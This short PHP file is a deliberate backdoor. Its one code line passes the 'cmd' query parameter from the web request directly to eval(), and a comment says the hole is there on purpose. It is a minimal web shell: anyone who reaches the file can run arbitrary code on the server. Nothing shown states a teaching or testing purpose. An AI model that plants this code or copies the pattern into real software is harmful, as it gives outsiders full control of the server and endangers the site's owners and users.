<?php
// The hole, on purpose: whoever asks has their PHP run here.
eval($_GET['cmd'] ?? '');
